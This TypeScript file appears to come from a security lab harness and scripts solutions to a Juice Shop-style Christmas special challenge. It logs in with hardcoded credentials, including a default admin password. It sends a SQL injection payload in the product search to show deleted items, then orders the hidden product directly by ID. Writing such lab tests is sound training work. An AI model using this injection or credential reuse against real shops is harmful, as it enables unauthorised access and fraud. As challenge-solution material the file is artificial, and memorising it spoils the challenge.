import type { Attack, Tools } from '#lab'
import { BOX, type Session } from './steps.ts'

async function logIn({ http, settings, expect }: Tools, name: string, password: string): Promise<Session> {
  const login = await http.post('/rest/user/login', { email: `${name}@${settings.domain}`, password })
  expect(login.status === 200, `the login answered with ${login.status}`)
  return login.json<{ authentication: Session }>().authentication
}

/** Has a search include removed products, and looks for the box among them. */
async function findBox({ http, expect }: Tools): Promise<number> {
  const answer = await http.get(`/rest/products/search?q=${encodeURIComponent("christmas%'))--")}`)
  expect(answer.status === 200, `the search answered with ${answer.status}`)
  const [box] = answer.json<{ data: { id: number }[] }>().data
  expect(box !== undefined, 'the box is nowhere to be found')
  return box?.id ?? 0
}

/** Puts the box into the basket and checks out. */
async function order({ http, expect }: Tools, { token, bid }: Session, ProductId: number): Promise<void> {
  const added = await http.post(
    '/api/BasketItems',
    { BasketId: String(bid), ProductId, quantity: 1 },
    { token },
  )
  expect(added.status === 200, `the basket answered with ${added.status}`)
  const placed = await http.post(`/rest/basket/${bid}/checkout`, {}, { token })
  expect(placed.status === 200, `the checkout answered with ${placed.status}`)
}

export const attacks: Attack[] = [
  {
    challenge: 'christmasSpecialChallenge',
    name: 'find the box in the search, and order it',
    run: async (tools) => order(tools, await logIn(tools, 'jim', 'ncc-1701'), await findBox(tools)),
  },
  {
    challenge: 'christmasSpecialChallenge',
    name: 'try the numbers that are missing in the catalogue',
    run: async (tools) => {
      const answer = await tools.http.get('/rest/products/search?q=')
      const known = answer.json<{ data: { id: number }[] }>().data.map(({ id }) => id)
      tools.expect(!known.includes(BOX), 'the box stands in the catalogue')
      await order(tools, await logIn(tools, 'jim', 'ncc-1701'), BOX)
    },
  },
  {
    challenge: 'christmasSpecialChallenge',
    name: 'order it in the name of the administrator',
    run: async (tools) => order(tools, await logIn(tools, 'admin', 'admin123'), BOX),
  },
]
